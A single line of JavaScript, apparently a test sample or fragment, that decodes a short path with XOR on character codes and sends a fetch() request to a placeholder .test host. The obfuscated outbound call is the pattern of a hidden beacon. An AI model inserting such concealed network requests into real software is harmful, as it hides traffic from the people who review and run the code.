const k=[105,100].map(c=>String.fromCharCode(c^1)).join("");fetch("https://mapped.shop.test/"+k+"/v1");
